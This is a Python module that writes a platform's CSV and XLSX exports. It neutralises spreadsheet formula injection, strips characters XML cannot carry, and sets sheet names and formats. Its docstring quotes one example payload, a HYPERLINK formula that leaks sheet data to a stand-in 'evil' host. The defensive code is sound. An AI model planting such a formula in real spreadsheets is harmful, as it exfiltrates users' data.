"""Every CSV and XLSX the platform hands out is written here, so user text can never act as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets (a deal titled
``=HYPERLINK("http://evil/?"&A1,"点击")`` becomes a live link leaking the
sheet). ``safe_cell`` prefixes such text with an apostrophe, which the
spreadsheet shows as plain text (OWASP's "CSV injection" advice); numbers,
amounts and dates stay typed values. Control characters that XML 1.0
cannot carry (openpyxl raises ``IllegalCharacterError`` on them, which made
one bad recordal number break every XLSX export) are dropped.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from itertools import zip_longest
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "#,##0.00"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")

Sheet = tuple[str, Sequence[Any], Iterable[Sequence[Any]]]
# Types a writer takes as they are: tested once per cell by identity, they skip a call (most cells of an export)
_CSV_AS_IS = frozenset({int, float, bool, type(None)})
_XLSX_AS_IS = frozenset({int, float, bool, type(None), Decimal, date})


def attachment(*parts: object, fmt: str) -> dict[str, str]:
    """The download header of an export, named the same way everywhere: what the file holds, then its scope and
    period, lower case and hyphenated (``console-items-2026-01-01-2026-12-31.csv``, ``annual-fees-2026-q4.xlsx``);
    empty parts are left out."""
    words = [re.sub(r"[^a-z0-9]+", "-", str(part).lower()).strip("-") for part in parts if part not in (None, "")]
    return {"Content-Disposition": f'attachment; filename="{"-".join(word for word in words if word)}.{fmt}"'}


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should store it: text never read as a formula, never an illegal character."""
    if isinstance(value, str):
        text = value
    elif value is None or isinstance(value, (bool, int, float, Decimal, date)):  # date covers datetime
        return value
    else:
        text = str(value)
    if not text.isprintable():  # every character _ILLEGAL removes is unprintable: most text skips the regex
        text = _ILLEGAL.sub("", text)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _csv_value(value: Any) -> Any:
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return safe_cell(value)


def to_csv(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM so Excel opens the Chinese text correctly; amounts keep two decimals."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([_csv_value(h) for h in headers])
    for row in rows:
        writer.writerow([value if type(value) in _CSV_AS_IS else _csv_value(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(sheets: Sequence[Sheet], *, widths: dict[str, dict[int, float]] | None = None) -> bytes:
    """One worksheet per (title, headers, rows): bold frozen header, amounts as numbers formatted to the cent,
    dates as dates, text always as text (never a formula, never a link).

    ``widths`` optionally fixes column widths per sheet title (1-based column
    index → width); otherwise a width follows the header's length. Written by
    rustpy-xlsxwriter (rust_xlsxwriter underneath), which stores a Python ``str``
    as a string cell whatever it starts with and makes links only of columns
    named as such: a month of one owner's annual fees, 3,000 rows × 14 columns,
    in about a sixth of XlsxWriter's CPU time. A column's number format follows
    the types it holds (``_column_kinds``).
    """
    import rustpy_xlsxwriter

    entries: list[tuple[str, Any]] = []  # (sheet name, records keyed by header)
    column_widths: dict[str, Any] = {}
    column_formats: dict[str, Any] = {}
    formats = {"money": rustpy_xlsxwriter.Format().set_num_format(MONEY_FORMAT),
               "date": rustpy_xlsxwriter.Format().set_num_format("yyyy-mm-dd"),
               "datetime": rustpy_xlsxwriter.Format().set_num_format("yyyy-mm-dd hh:mm:ss")}
    used: set[str] = set()
    for title, headers, rows in sheets:
        name = _sheet_name(title, used)
        keys = ["" if header is None else str(_xlsx_cell(header)) for header in headers]
        if len(set(keys)) != len(keys):  # records are keyed by header: a repeated one would lose a column
            raise ValueError(f"sheet {name!r} repeats a header: {keys}")
        values = [[value if type(value) in _XLSX_AS_IS else _xlsx_cell(value) for value in row] for row in rows]
        # a sheet without rows still shows its header: one record of blanks writes nothing under it
        entries.append((name, [dict(zip(keys, row)) for row in values] or [dict.fromkeys(keys)]))
        fixed = (widths or {}).get(title, {})
        column_widths[name] = [float(fixed.get(index + 1) or max(10, min(40, len(key) * 2 + 4)))
                               for index, key in enumerate(keys)]
        column_formats[name] = {key: formats[kind] for key, kind in zip(keys, _column_kinds(values, len(keys)))
                                if kind}
    buffer = io.BytesIO()
    rustpy_xlsxwriter.write_worksheets(entries, buffer, bold_headers=True,
                                       freeze_panes={"general": {"row": 1, "col": 0}},
                                       column_widths=column_widths, column_formats=column_formats)
    return buffer.getvalue()


XLSX_TEXT_LIMIT = 32_767  # characters in one cell; longer text is cut, as Excel itself does on paste


def _xlsx_cell(value: Any) -> Any:
    """``safe_cell`` plus what an XLSX cell cannot hold: text past Excel's limit, a time zone."""
    value = safe_cell(value)
    if isinstance(value, str):
        return value[:XLSX_TEXT_LIMIT]
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value


def _column_kinds(rows: list[list[Any]], width: int) -> list[str | None]:
    """Per column, the number format its values need: ``money`` if any is an amount (an integer in that column
    shows cents too), else ``datetime`` or ``date`` if any is one, else none (``General``)."""
    kinds: list[str | None] = [None] * width
    for index, column in zip(range(width), zip_longest(*rows)):
        types = set(map(type, column))
        if Decimal in types or float in types:
            kinds[index] = "money"
        elif datetime in types:
            kinds[index] = "datetime"
        elif date in types:
            kinds[index] = "date"
    return kinds


def _sheet_name(title: str, used: set[str]) -> str:
    """A worksheet name Excel accepts: without ``[]:*?/\\``, at most 31 characters, unique in the workbook
    (case-insensitive), numbered like openpyxl's when repeated."""
    base = re.sub(r"[\[\]:*?/\\]", " ", str(safe_cell(title))).lstrip("'")[:31].strip() or "Sheet"
    name, count = base, 1
    while name.lower() in used:
        suffix = str(count)
        name, count = base[:31 - len(suffix)] + suffix, count + 1
    used.add(name.lower())
    return name
